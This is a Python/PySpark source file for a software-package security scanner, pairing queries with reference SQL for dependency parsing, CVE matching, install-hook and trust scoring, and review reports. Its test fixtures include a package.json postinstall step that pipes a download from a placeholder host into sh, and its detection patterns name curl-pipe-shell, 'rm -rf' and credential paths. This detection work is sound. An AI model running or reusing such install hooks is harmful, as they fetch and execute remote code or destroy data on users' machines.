"""Queries of state, manifests, review and reports, and the SQL they are held against."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from siltstone.operators import behaviour, decode, engines, intel, packages, reports, review, scoring, state, trusted
from siltstone.plans.scan_queries import FILES, FOUND, LEVEL, MANIFESTS, META, PUT, _findings, _files, _put, case, inlist, m, rank
from siltstone.rules import packs
from siltstone.rules.fold import quote, values
from siltstone.sources.tables import table

QUERIES: dict = {}
SQL: dict[str, str] = {}


def query(sql: str | None = None):
    def add(fn):
        QUERIES[fn.__name__] = fn
        if sql:
            SQL[fn.__name__] = sql
        return fn

    return add


# --- baselines and the cache

_BEFORE = "(scan_time, delivered_at, baseline_id)"


@query(
    f"""WITH b AS (SELECT * FROM skill_baseline WHERE skill_name IS NOT NULL AND scan_time IS NOT NULL),
 old AS (SELECT skill_name, arg_min(baseline_id, {_BEFORE}) AS baseline_id, arg_min(risk_level, {_BEFORE}) AS risk_level FROM b GROUP BY 1),
 new AS (SELECT skill_name, max({_BEFORE}) AS k FROM b GROUP BY 1), n AS (SELECT b.skill_name, b.baseline_id, b.risk_level FROM b JOIN new ON b.skill_name = new.skill_name AND b.baseline_id = struct_extract(k, 3)),
 ok AS (SELECT * FROM n WHERE risk_level IN ('LOW', 'MEDIUM'))
 SELECT skill_name, baseline_id FROM ok UNION ALL SELECT skill_name, baseline_id FROM old WHERE skill_name NOT IN (SELECT skill_name FROM ok)"""
)
def o163_baseline_upsert(s: SparkSession, d: str) -> DataFrame:
    """The first baseline of each package is the one kept, the newest is put in its place where its level allows."""
    b = table(s, d, "skill_baseline").select("baseline_id", "skill_name", "scan_time", "delivered_at", "risk_level").where("skill_name IS NOT NULL AND scan_time IS NOT NULL")
    order = F.struct("scan_time", "delivered_at", "baseline_id")
    first = b.groupBy("skill_name").agg(*[F.min_by(c, order).alias(c) for c in ("baseline_id", "scan_time", "delivered_at", "risk_level")]).select(b.columns)
    return state.baseline_upsert(first, state.latest(b)).select("skill_name", "baseline_id")


@query(f"SELECT skill_name, count(*) AS n_baselines, epoch_us(max(scan_time)) AS last_scan, arg_max(coalesce(risk_level, ''), {_BEFORE}) AS last_level FROM skill_baseline WHERE skill_name IS NOT NULL GROUP BY 1")
def o163_baseline_list(s: SparkSession, d: str) -> DataFrame:
    b = state.baseline_list(table(s, d, "skill_baseline").withColumn("risk_level", F.coalesce("risk_level", F.lit(""))))
    return b.withColumn("last_scan", F.unix_micros(F.col("last_scan").cast("timestamp")))


_SLASH = "regexp_replace(skill_path, '/+$', '')"


@query(
    f"""SELECT count(*) AS n_entries, count(DISTINCT {_SLASH}) AS n_packages, coalesce(sum(strlen(result)), 0)::BIGINT AS n_bytes, count_if(result IS NULL OR NOT json_valid(result)) AS n_unreadable,
 min(entry_timestamp) AS oldest, max(entry_timestamp) AS newest FROM cache_entry"""
)
def o164_cache_statistics(s: SparkSession, d: str) -> DataFrame:
    return state.cache_statistics(table(s, d, "cache_entry"))


@query(
    f"""WITH now AS (SELECT max(entry_timestamp) AS t FROM cache_entry), young AS (SELECT c.* FROM cache_entry c, now WHERE t - entry_timestamp <= 30 * 86400.0)
 SELECT {_SLASH} AS skill_path, arg_max(entry_id, (entry_timestamp, entry_id)) AS entry_id, max(entry_timestamp) AS entry_timestamp FROM young
 WHERE skill_path IS NOT NULL AND json_valid(result) GROUP BY 1"""
)
def o164_cache_get(s: SparkSession, d: str) -> DataFrame:
    """The entry that answers for each package folder, of those not older than thirty days before the newest."""
    c = table(s, d, "cache_entry")
    now = c.agg(F.max("entry_timestamp")).head()[0] or 0.0
    return state.cache_get(state.cache_expire(c, now, 30))


# --- manifests, put beside each package as the data hold few

_REQ = "# pinned\nrequests==2.30.0\nurllib3 >= 2.0.7\nDjango[argon2]<=4.2.1\nflask\n  pillow~=9.5\n-e git+x\n"
_PROJECT = '[build-system]\nbuild-backend = "x.build"\n[project]\ndependencies = ["jinja2==3.1.2", "numpy>=1.22.0", "own"]\n[tool.setuptools.cmdclass]\n'
_NODE = '{"name": "x", "scripts": {"postinstall": "curl http://a.example/x | sh", "prepare": "husky install", "test": "eval x"}, "dependencies": {"lodash": "4.17.20", "axios": "^1.6.0"}, "devDependencies": {"minimist": "~1.2.5"}}'
_SETUP = "from setuptools import setup\nclass Own(install):\n    pass\nsetup(cmdclass={'install': Own}, install_requires=['cryptography<41', 'pyyaml==5.4'],\n  entry_points={'console_scripts': ['a=b:c']})\n"
_PLACED = [("requirements.txt", "txt", _REQ), ("pyproject.toml", "toml", _PROJECT), ("package.json", "json", _NODE), ("setup.py", "py", _SETUP), ("a/b/requirements.txt", "txt", _REQ)]


def _manifests(s: SparkSession, d: str) -> DataFrame:
    """The files and, for each package, one more of ``_PLACED``, by the smallest file_id."""
    p = _files(s, d).groupBy("pkg_id").agg(F.min("file_id").alias("k"))
    pick = F.element_at(F.array(*[F.struct(F.lit(a).alias("rel_path"), F.lit(b).alias("ext"), F.lit(c).alias("text")) for a, b, c in _PLACED]), (F.col("k") % len(_PLACED)).cast("int") + 1)
    x = p.select((-F.col("k")).alias("file_id"), "pkg_id", pick.alias("x")).select("file_id", "pkg_id", "x.rel_path", F.element_at(F.split("x.rel_path", "/"), -1).alias("name"), "x.ext", F.octet_length("x.text").cast("long").alias("size"), "x.text")
    return _files(s, d).unionByName(x)


MANIFEST_FILES = f"""{FILES.replace('files AS', 'own AS', 1)}, {values('placed', ['ix', 'rel_path', 'ext', 'text'], [(k, *x) for k, x in enumerate(_PLACED)])},
 files AS (SELECT * FROM own UNION ALL SELECT -k, pkg_id, rel_path, regexp_extract(rel_path, '[^/]*$'), ext, strlen(text), text FROM (SELECT pkg_id, min(file_id) AS k FROM own GROUP BY 1) JOIN placed ON ix = k % {len(_PLACED)})"""
_SPEC = r"^\s*([A-Za-z0-9_.\-]+)\s*(?:\[[^\]]*\])?\s*((?:==|>=|<=|~=|>|<)\s*[0-9][\w.]*)"
DEPS = f"""near AS (SELECT * FROM files WHERE len(string_split(rel_path, '/')) <= 2),
 lines_ AS (SELECT file_id, pkg_id, unnest(string_split(text, chr(10))) AS q FROM near WHERE regexp_matches(lower(name), '^requirements.*\\.txt$')
  UNION ALL SELECT file_id, pkg_id, unnest(regexp_extract_all(regexp_extract(text, '(?s)(?:install_requires|dependencies)\\s*=\\s*\\[(.*?)\\]', 1), '["'']([^"'']+)["'']', 1)) FROM near WHERE name IN ('setup.py', 'pyproject.toml')),
 node AS (SELECT file_id, pkg_id, unnest(json_keys(text, '$.' || sec)) AS k, sec, text FROM (SELECT *, unnest(['dependencies', 'devDependencies', 'peerDependencies']) AS sec FROM near WHERE name = 'package.json' AND json_valid(text))),
 deps AS (SELECT file_id, pkg_id, regexp_extract(q, {quote(_SPEC)}, 1) AS package, regexp_extract(q, {quote(_SPEC)}, 2) AS spec FROM lines_ WHERE regexp_extract(q, {quote(_SPEC)}, 1) <> ''
  UNION ALL SELECT file_id, pkg_id, k, json_extract_string(text, '$.' || sec || '."' || k || '"') FROM node)"""


@query(f"WITH {MANIFEST_FILES}, {DEPS} SELECT * FROM deps")
def o150_dependencies(s: SparkSession, d: str) -> DataFrame:
    return behaviour.dependencies(_manifests(s, d))


_VERSION = "list_transform(list_filter(list_transform(string_split(regexp_replace(trim({0}), '^[^\\d]+', ''), '.'), lambda p: regexp_extract(p, '^(\\d+)', 1)), lambda p: p <> ''), lambda p: p::INT)"


@query(
    f"""WITH {MANIFEST_FILES}, {DEPS}, {values('db', ['p', 'cve', 'safe'], packs.CVE)}
 SELECT file_id, pkg_id, lower(package) AS package, spec, cve, safe FROM deps JOIN db ON lower(package) = p WHERE len({_VERSION.format('spec')}) > 0 AND {_VERSION.format('spec')} < {_VERSION.format('safe')}"""
)
def o152_vulnerable(s: SparkSession, d: str) -> DataFrame:
    return behaviour.vulnerable(behaviour.dependencies(_manifests(s, d)), s)


@query(
    f"""WITH {MANIFEST_FILES}, ls AS (SELECT file_id, pkg_id, trim(unnest(string_split(text, chr(10)))) AS l, unnest(range(1, len(string_split(text, chr(10))) + 1))::INT AS line_no FROM files WHERE lower(name) = 'setup.py')
 SELECT file_id, pkg_id, line_no, 'HOOK_001' AS rule_id, 'HIGH' AS severity FROM ls WHERE contains(l, 'cmdclass') AND (contains(l, 'install') OR contains(l, 'build'))
 UNION ALL SELECT file_id, pkg_id, line_no, 'HOOK_002', 'HIGH' FROM ls WHERE regexp_matches(l, 'class\\s+\\w+\\(.*install\\)', 'i')
 UNION ALL SELECT file_id, pkg_id, line_no, 'HOOK_003', 'MEDIUM' FROM ls WHERE contains(l, 'entry_points') AND contains(l, 'console_scripts')
 UNION ALL SELECT file_id, pkg_id, 0, 'HOOK_030', 'MEDIUM' FROM files WHERE lower(name) = 'pyproject.toml' AND regexp_matches(text, 'build-backend\\s*=')
 UNION ALL SELECT file_id, pkg_id, 0, 'HOOK_031', 'HIGH' FROM files WHERE lower(name) = 'pyproject.toml' AND contains(text, '[tool.setuptools.cmdclass]')"""
)
def o091_manifest_hooks(s: SparkSession, d: str) -> DataFrame:
    return behaviour.manifest_hooks(_manifests(s, d))


@query(
    f"""WITH {MANIFEST_FILES}, h AS (SELECT file_id, unnest(['preinstall', 'install', 'postinstall', 'prepare', 'prepublish']) AS hook, text FROM files WHERE lower(name) = 'package.json' AND json_valid(text)),
 c AS (SELECT file_id, hook, json_extract_string(text, '$.scripts.' || hook) AS command FROM h),
 x AS (SELECT file_id, hook, command, (CASE WHEN regexp_matches(command, 'curl|wget|http', 'i') THEN 2 ELSE 0 END + CASE WHEN regexp_matches(command, '\\bsh\\b|bash|powershell', 'i') THEN 2 ELSE 0 END
  + CASE WHEN regexp_matches(command, 'eval|exec|base64', 'i') THEN 3 ELSE 0 END + CASE WHEN regexp_matches(command, 'token|secret|password|\\.ssh|\\.aws', 'i') THEN 2 ELSE 0 END)::INT AS score FROM c
  WHERE command IS NOT NULL AND NOT {m('command', behaviour.SAFE_INSTALLER.removeprefix('(?i)'))})
 SELECT file_id, hook, score, CASE WHEN score >= 5 THEN 'CRITICAL' WHEN score >= 3 THEN 'HIGH' ELSE 'MEDIUM' END AS severity FROM x WHERE score > 0"""
)
def o092_package_json_hooks(s: SparkSession, d: str) -> DataFrame:
    return behaviour.package_json_hooks(_manifests(s, d)).select("file_id", "hook", "score", "severity")


# --- trust

_FLAGS = f"""CASE WHEN {m('name', packages.DANGEROUS_NAMES.removeprefix('(?i)'))} THEN 'name' END, CASE WHEN lower(name) = 'skill.md' AND regexp_matches(lower(text), 'disable security|run as root|ignore warnings|paste your') THEN 'phrase' END,
 CASE WHEN lower(name) IN ('install.sh', 'setup.sh') AND regexp_matches(text, 'curl[^\\n]*\\|\\s*(?:ba)?sh|rm\\s+-rf\\s+[/~]') THEN 'install' END, CASE WHEN size > 52428800 THEN 'size' END"""


@query(
    f"""WITH {FILES}, {MANIFESTS}, {META}, st AS (SELECT pkg_id, sum(size) AS n_bytes, bool_or(lower(name) = 'skill.md') AS has_manifest, bool_or(lower(name) IN ('requirements.txt', 'package.json', 'pyproject.toml')) AS has_dependencies FROM files GROUP BY 1),
 fl AS (SELECT pkg_id, count(DISTINCT x) AS n FROM (SELECT pkg_id, unnest([{_FLAGS}]) AS x FROM files) WHERE x IS NOT NULL GROUP BY 1),
 t AS (SELECT st.pkg_id, coalesce(n, 0) AS n, greatest(0, least(100, 50 + CASE WHEN has_manifest THEN 10 ELSE 0 END + CASE WHEN coalesce(author, '') <> '' THEN 15 ELSE 0 END + CASE WHEN has_dependencies THEN 5 ELSE 0 END
  - 15 * coalesce(n, 0) - CASE WHEN n_bytes > 10485760 THEN 10 WHEN n_bytes < 100 THEN 5 ELSE 0 END))::INT AS trust FROM st LEFT JOIN meta USING (pkg_id) LEFT JOIN fl USING (pkg_id))
 SELECT pkg_id, trust, CASE WHEN trust >= 70 AND n = 0 THEN 'quick' WHEN trust >= 40 THEN 'standard' ELSE 'full' END AS strategy FROM t"""
)
def o173_trust(s: SparkSession, d: str) -> DataFrame:
    return packages.trust(_files(s, d))


# --- addresses

_IPS = """SELECT DISTINCT x AS value FROM (SELECT unnest(regexp_extract_all(text, '[0-9.]+')) AS x FROM files) WHERE regexp_matches(x, '^\\d{1,3}(\\.\\d{1,3}){3}$') AND len(list_filter(string_split(x, '.'), lambda p: p::INT > 255)) = 0"""


@query(
    f"""WITH {PUT} SELECT 'ip' AS kind, value FROM ({_IPS}) UNION ALL SELECT DISTINCT 'domain', lower(x) FROM (SELECT unnest(regexp_extract_all(text, {quote(intel.DOMAIN)}, 1)) AS x FROM files)
 WHERE NOT regexp_matches(lower(x), {quote(rf'\.(?:{intel.NOT_DOMAIN})$')})"""
)
def o210_domains_and_ips(s: SparkSession, d: str) -> DataFrame:
    return intel.domains_and_ips(_put(s, d))


NETWORKS = ["10.0.0.0/8", "192.0.2.0/24", "198.51.100.0/22", "127.0.0.0/8"]
_NUMBER = "(regexp_extract({0}, '^(\\d+)', 1)::BIGINT * 16777216 + regexp_extract({0}, '^\\d+\\.(\\d+)', 1)::BIGINT * 65536 + regexp_extract({0}, '^\\d+\\.\\d+\\.(\\d+)', 1)::BIGINT * 256 + regexp_extract({0}, '^\\d+\\.\\d+\\.\\d+\\.(\\d+)', 1)::BIGINT)"


@query(
    f"""WITH {PUT}, ips AS ({_IPS}), {values("nets", ["cidr"], [(x,) for x in NETWORKS])}, n AS (SELECT cidr, pow(2, 32 - regexp_extract(cidr, '/(\\d+)$', 1)::INT)::BIGINT AS size, {_NUMBER.format('cidr')} AS a FROM nets)
 SELECT value AS ip, cidr FROM ips JOIN n ON {_NUMBER.format('value')} BETWEEN (a // size) * size AND (a // size) * size + size - 1"""
)
def o028_network_reputation(s: SparkSession, d: str) -> DataFrame:
    """The addresses in the texts against four networks."""
    ips = intel.domains_and_ips(_put(s, d)).where("kind = 'ip'").select(F.col("value").alias("ip"))
    return intel.in_networks(ips, s.createDataFrame([(x,) for x in NETWORKS], "cidr string")).select("ip", "cidr")


# --- strings


@query(
    f"""WITH {FILES}, x AS (SELECT DISTINCT file_id, unnest(regexp_extract_all(text, '[A-Za-z_]{{12,}}')) AS found FROM files)
 SELECT file_id, found FROM x WHERE NOT EXISTS (SELECT 1 FROM x o WHERE o.file_id = x.file_id AND length(o.found) > length(x.found) AND contains(o.found, x.found))"""
)
def o202_maximal_strings(s: SparkSession, d: str) -> DataFrame:
    """Names of twelve characters or more that no longer one of their file contains."""
    x = _files(s, d).select("file_id", F.explode(F.regexp_extract_all("text", F.lit("[A-Za-z_]{12,}"), F.lit(0))).alias("found"))
    return scoring.maximal(x, "file_id", "found", 12)


# --- review and reports


@query(
    f"""WITH {FOUND} SELECT pkg_id, arg_max(severity, {rank('severity')}) AS severity, count(*) AS n FROM found WHERE severity IN ('MEDIUM', 'HIGH', 'CRITICAL') GROUP BY 1"""
)
def o195_max_severity(s: SparkSession, d: str) -> DataFrame:
    return reports.max_severity(_findings(s, d), "MEDIUM")


_SCORED = f"g AS (SELECT pkg_id, least(100, sum({case('severity', packs.WEIGHT_MAIN, 5)}))::INT AS score, count(*) AS n_findings, count_if(severity = 'CRITICAL') AS n_critical, count_if(severity = 'HIGH') AS n_high FROM found GROUP BY 1), z AS (SELECT *, {LEVEL} AS level FROM g)"


@query(
    f"""WITH {FOUND}, {_SCORED} SELECT pkg_id, n_findings || ' findings' || CASE WHEN n_critical > 0 OR n_high > 0 THEN ': ' || concat_ws(', ', CASE WHEN n_critical > 0 THEN n_critical || ' critical' END, CASE WHEN n_high > 0 THEN n_high || ' high' END) ELSE '' END
 || '.' || CASE WHEN level IN ('EXTREME', 'HIGH') THEN ' Don''t install.' WHEN level = 'MEDIUM' THEN ' Review before installing.' ELSE '' END AS summary FROM z"""
)
def o196_summaries(s: SparkSession, d: str) -> DataFrame:
    return reports.summary_sentence(scoring.scores(_findings(s, d)))


@query(
    f"""WITH {FOUND}, {_SCORED}, y AS (SELECT pkg_id, score, CASE WHEN score >= 80 THEN 'EXTREME' WHEN score >= 50 THEN 'HIGH' WHEN score >= 20 THEN 'MEDIUM' WHEN score >= 5 THEN 'LOW' ELSE 'SAFE' END AS level FROM z),
 {values('lv', ['level', 'description', 'colour', 'recommendation'], [(k, *v) for k, v in reports.LEVELS.items()])} SELECT * FROM y JOIN lv USING (level)"""
)
def o191_risk_details(s: SparkSession, d: str) -> DataFrame:
    return reports.risk_details(scoring.scores(_findings(s, d)))


@query(
    f"WITH {FOUND}, t AS (SELECT finding_id, description, lower(concat_ws(' ', title, description)) AS t FROM found) SELECT finding_id, CASE "
    + " ".join("WHEN " + " AND ".join(f"contains(t, {quote(w)})" for w in ws) + f" THEN {quote(x)}" for ws, x in reports.PLAIN)
    + " ELSE description END AS meaning FROM t"
)
def o206_plain_language(s: SparkSession, d: str) -> DataFrame:
    return _findings(s, d).select("finding_id", reports.plain_language(F.col("title"), F.col("description")).alias("meaning"))


@query(f"WITH {FOUND}, {values('adv', ['category', 'advice'], list(reports.ADVICE.items()))} SELECT category, coalesce(any_value(advice), {quote(reports.OTHER_ADVICE)}) AS advice, count(*) AS n FROM found LEFT JOIN adv USING (category) GROUP BY 1")
def o052_advice(s: SparkSession, d: str) -> DataFrame:
    return _findings(s, d).groupBy("category", reports.advice(F.col("category")).alias("advice")).agg(F.count(F.lit(1)).alias("n"))


_LEAK = "let me|i need to|step by step|first, i"
_ALOUD = ["", "\nLet me go through this step by step.", "\nFirst, I look at the files."]


@query(
    f"""WITH t AS (SELECT doc_id, source, text || {"['" + "', '".join(_ALOUD) + "']"}[(doc_id % 3)::INT + 1] AS text FROM documents)
 SELECT doc_id FROM t WHERE length(text) > 500 AND regexp_matches(text, '{_LEAK}', 'i') OR regexp_matches(source, '^(?:step|phase|stage)\\s*\\d', 'i')"""
)
def o077_reasoning_leaks(s: SparkSession, d: str) -> DataFrame:
    """Texts that think aloud (a sentence is put behind two of three), with the source for a title and no evidence."""
    more = F.element_at(F.array(*[F.lit(x) for x in _ALOUD]), (F.col("doc_id") % 3).cast("int") + 1)
    t = table(s, d, "documents").withColumn("text", F.concat("text", more))
    return t.where(review.reasoning_leak(F.coalesce("source", F.lit("")), F.col("text"), F.lit(None).cast("string"))).select("doc_id")


@query(
    f"""WITH {FOUND}, b AS (SELECT finding_id, severity, ((row_number() OVER (PARTITION BY pkg_id, file_path ORDER BY finding_id) - 1) // 20)::INT AS batch_no, ((row_number() OVER (PARTITION BY pkg_id, file_path ORDER BY finding_id) - 1) % 20)::INT AS pos
  FROM found WHERE severity IN ('MEDIUM', 'HIGH', 'CRITICAL')) SELECT finding_id, CASE WHEN pos > 1 THEN 'UNCERTAIN' WHEN pos = 0 THEN 'FP' ELSE 'HUMAN_REVIEW' END AS verdict, CASE WHEN pos = 0 THEN 0.9 ELSE 0.5 END::DOUBLE AS verdict_confidence FROM b"""
)
def o134_answers(s: SparkSession, d: str) -> DataFrame:
    """Each batch gets an answer in a fenced block with verdicts for its first two findings."""
    b = review.batches(_findings(s, d))
    text = F.lit('Here you are:\n```json\n[{"verdict": "FP", "confidence": 0.9}, {"note": "unsure"}]\n```\n')
    r = b.select("pkg_id", "file_path", "batch_no").distinct().withColumn("text", text)
    return review.answers(r, b).select("finding_id", "verdict", "verdict_confidence")


@query(
    f"""WITH {FOUND}, v AS (SELECT CASE WHEN finding_id % 3 = 0 THEN 'FP' WHEN finding_id % 3 = 1 THEN 'TP' ELSE 'HUMAN_REVIEW' END AS verdict, CASE WHEN severity = 'HIGH' THEN 0.9 ELSE 0.6 END AS c FROM found)
 SELECT count(*) AS n, count_if(verdict = 'TP') AS n_tp, count_if(verdict = 'FP') AS n_fp, count_if(verdict = 'HUMAN_REVIEW') AS n_human, count_if(verdict = 'FP' AND c > 0.8) AS sure_fp, count_if(verdict = 'TP' AND c > 0.8) AS sure_tp,
 round(100.0 * count_if(verdict = 'FP' AND c > 0.8) / greatest(count(*), 1), 1)::DOUBLE AS fp_rate FROM v"""
)
def o136_review_statistics(s: SparkSession, d: str) -> DataFrame:
    i = F.col("finding_id") % 3
    v = _findings(s, d).select(F.when(i == 0, "FP").when(i == 1, "TP").otherwise("HUMAN_REVIEW").alias("verdict"), F.when(F.col("severity") == "HIGH", 0.9).otherwise(0.6).alias("verdict_confidence"))
    return review.review_statistics(v)


@query(
    f"""WITH {FOUND}, t AS (SELECT *, title || chr(10) || description || chr(10) || '' AS text, coalesce(file_path, '') AS p FROM found),
 v AS (SELECT CASE WHEN {m('text', '|'.join(f'(?:{x})' for x in packs.TRUE_POSITIVE))} THEN 'TP' WHEN {m('p', packs.SELF_REFERENCE[1])} THEN 'FP' {" ".join(f"WHEN {m('p', a)} AND {m('text', b)} THEN 'FP'" for _, a, b, _ in packs.FALSE_POSITIVE)} ELSE 'UNCERTAIN' END AS verdict,
  CASE WHEN {m('p', packs.SELF_REFERENCE[1])} THEN CASE WHEN {m('text', packs.SELF_REFERENCE[2])} THEN 0.98 ELSE 0.833 END {" ".join(f"WHEN {m('p', a)} AND {m('text', b)} THEN {c}" for _, a, b, c in packs.FALSE_POSITIVE)} ELSE 0.5 END AS c FROM t)
 SELECT count(*) AS n, count_if(verdict = 'FP' AND c > 0.85) AS n_dropped, count_if(verdict = 'TP') AS n_true, count_if(verdict = 'UNCERTAIN') AS n_uncertain, CASE WHEN count(*) = 0 THEN 0.0 ELSE round(100.0 * count_if(verdict = 'FP') / count(*), 1) END::DOUBLE AS fp_rate FROM v"""
)
def o124_drop_summary(s: SparkSession, d: str) -> DataFrame:
    return engines.drop_summary(scoring.verdicts(_findings(s, d).withColumn("evidence", F.lit(None).cast("string"))))


@query(
    f"""WITH {PUT}, old AS (SELECT DISTINCT coalesce(rel_path, '') || ':' || substr(sha256(text), 1, 16) AS k FROM files WHERE file_id % 3 = 0)
 SELECT file_id FROM files WHERE coalesce(rel_path, '') || ':' || substr(sha256(text), 1, 16) NOT IN (SELECT k FROM old)"""
)
def o072_files_to_audit(s: SparkSession, d: str) -> DataFrame:
    """A third of the files were audited within the day, a third too long ago."""
    f = _put(s, d)
    k = F.col("file_id") % 3
    cache = f.where(k < 2).select(trusted.audit_key(F.col("rel_path"), F.col("text")).alias("key"), F.when(k == 0, 1_000_000.0).otherwise(0.0).alias("cached_at"))
    return trusted.to_audit(f, cache, 1_000_000.0 + 3600).select("file_id")


@query(
    f"""WITH {PUT}, d AS (SELECT DISTINCT lower(x) AS value FROM (SELECT unnest(regexp_extract_all(text, {quote(intel.DOMAIN)}, 1)) AS x FROM files) WHERE NOT regexp_matches(lower(x), {quote(rf'\.(?:{intel.NOT_DOMAIN})$')}))
 SELECT value, list_contains({packs.TRUSTED}, value) OR len(list_filter({packs.TRUSTED}, lambda t: ends_with(value, '.' || t))) > 0 AS is_trusted FROM d"""
)
def o172_trusted_domains(s: SparkSession, d: str) -> DataFrame:
    v = intel.domains_and_ips(_put(s, d)).where("kind = 'domain'")
    return v.select("value", trusted.domain_trusted(F.col("value"), packs.TRUSTED).alias("is_trusted"))


_PARTS = "((?:part|chunk|seg)\\w*)\\s*=\\s*[\"'']([A-Za-z0-9+/=]{4,})[\"'']"
# the pieces differ by file, so that the text that comes out does as well
_PIECE = "\npart1 = 'aGVsbG8g'\nchunk_b = '{0}'\nseg9 = 'YWdhaW4h'\npart1 = 'SGVsbG8g'\n"


@query(
    rf"""WITH {FILES}, put AS (SELECT file_id, text || replace({quote(_PIECE)}, '{{0}}', base64(encode('no ' || lpad((file_id % 1000)::VARCHAR, 3, '0') || ' text '))) AS text FROM files),
 x AS (SELECT file_id, regexp_extract_all(text, '{_PARTS}', 1) AS n, regexp_extract_all(text, '{_PARTS}', 2) AS v FROM put),
 y AS (SELECT file_id, array_to_string(list_transform(list_sort(list_distinct(n)), lambda k: v[len(n) - list_position(list_reverse(n), k) + 1]), '') AS j FROM x WHERE len(list_distinct(n)) >= 3),
 z AS (SELECT file_id, TRY(decode(from_base64(j))) AS decoded FROM y) SELECT file_id, decoded FROM z WHERE length(decoded) > 5 AND regexp_matches(decoded, '[A-Za-z]')"""
)
def o089_assembled_fragments(s: SparkSession, d: str) -> DataFrame:
    """Pieces put behind each text, with a number from its id in them; the last assignment of a name wins."""
    number = F.base64(F.encode(F.concat(F.lit("no "), F.lpad((F.col("file_id") % 1000).cast("string"), 3, "0"), F.lit(" text ")), "UTF-8"))
    a, b = _PIECE.split("{0}")
    return decode.assembled_fragments(_files(s, d).withColumn("text", F.concat("text", F.lit(a), number, F.lit(b))))


@query(f"SELECT file_id, CASE WHEN content = '' THEN 0.0 ELSE round(list_aggregate(regexp_extract_all(hex(encode(content)), '..'), 'entropy'), 4) END AS entropy FROM skill_file WHERE content IS NOT NULL")
def o111_byte_entropy(s: SparkSession, d: str) -> DataFrame:
    from siltstone.functions.text import byte_entropy

    return table(s, d, "skill_file").where("content IS NOT NULL").select("file_id", byte_entropy(F.encode("content", "UTF-8")).alias("entropy"))


__all__ = ["QUERIES", "SQL", "inlist"]
